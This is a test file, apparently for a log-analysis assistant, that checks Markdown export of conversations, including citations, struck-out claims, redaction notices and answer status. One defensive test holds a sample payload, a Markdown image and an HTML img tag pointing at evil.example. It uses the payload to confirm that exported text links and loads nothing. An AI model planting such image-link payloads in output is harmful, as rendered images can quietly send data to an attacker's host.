import { describe, expect, it } from 'vitest';
import { conversationMarkdown, turnMarkdown } from '../../../src/node/assistant/conversation-markdown';
import { earlierTurn } from '../../../src/node/assistant/earlier-turn';
import type { TurnStatus } from '../../../src/protocol/assistant';
import { sentenceText } from '../../../src/protocol/sentence';
import { citation, storedConversation, storedTurn } from './stored-turn';

const options = { say: sentenceText, redacted: ['3 IP addresses'] };

describe('a conversation as a Markdown file', () => {
  const text = conversationMarkdown(storedConversation, options);

  it.each([
    ['its title', '# Why do payments fail?\n'],
    ['the log and the time', '`shop.log` · 2026-05-03 09:30 UTC'],
    ['the question', '## Why do payments fail?'],
    ['who answered, and what it took', '_sent to api.example.com · 900 + 40 tokens_'],
    ['what the model did', '- Read lines from 40'],
    ['a citation that holds', 'The pool shrank [`L41`].'],
    ['what is struck out', '~~The disk was full [`L5`].~~'],
    ['how much is struck out', 'One citation did not hold and is struck out.'],
    ['the line a citation proves', '- `L41` ``size set from `40` to 2``'],
    ['why another proves nothing', '- ~~`L5`~~ The line does not say so.'],
    ['the causes of a report', '- A reload. (90 %)\n  - `L41` ``size set from `40` to 2``'],
    ['the findings of a report', '- **High** outage: Refused.\n  - `L41` `size`'],
    ['what was left out of a report', 'Evidence that did not hold and was left out: 2'],
    ['what was said beside it', '> It was made smaller.'],
    ['what was hidden from the model', '## Hidden from the model\n\n- 3 IP addresses'],
  ])('tells %s', (_, expected) => expect(text).toContain(expected));

  it.each<[TurnStatus, string | null]>([
    ['stopped', '**The answer was stopped: this is what came of it.**'],
    ['cut', '**The answer was cut off: this is what came of it.**'],
    ['failed', '**The answer failed: this is what came of it.**'],
    ['done', null],
  ])('an answer that is %s is shown as whole only where it is', (status, told) => {
    const shown = turnMarkdown({ ...storedTurn, status }, sentenceText);
    expect(/\*\*The answer .*/.exec(shown)?.[0] ?? null).toBe(told);
  });

  it('holds no mark of ours', () => expect(text).not.toMatch(/[\uE000-\uE003]/));

  it('says nothing of a shield where nothing was hidden', () =>
    expect(conversationMarkdown(storedConversation, { ...options, redacted: [] })).not.toContain('Hidden'));
});

describe('one answer, to be copied', () => {
  it('links and loads nothing, whatever the model and the log say', () => {
    const hostile = '![x](http://evil.example/?q=1) <img src=http://evil.example>';
    const turn = {
      ...storedTurn,
      question: `${hostile}\n# no heading`,
      answer: { checked: hostile, rest: hostile, citations: [citation(3, true, hostile)], struck: 0 },
      badge: { kind: 'sent' as const, text: hostile },
    };
    const outside = turnMarkdown(turn, sentenceText).replace(/`[^`]*`/g, '');
    expect(outside).not.toMatch(/\]\(|<img|:\/\//);
    expect(outside).toContain('> \\# no heading');
  });
});

describe('a turn as a model is told of it', () => {
  it('is what was said', () =>
    expect(earlierTurn(storedTurn)).toEqual({ question: storedTurn.question, answer: storedTurn.said }));

  it('is what held of a report', () =>
    expect(earlierTurn({ ...storedTurn, said: '' }).answer).toContain('- A reload. (90 %)'));
});
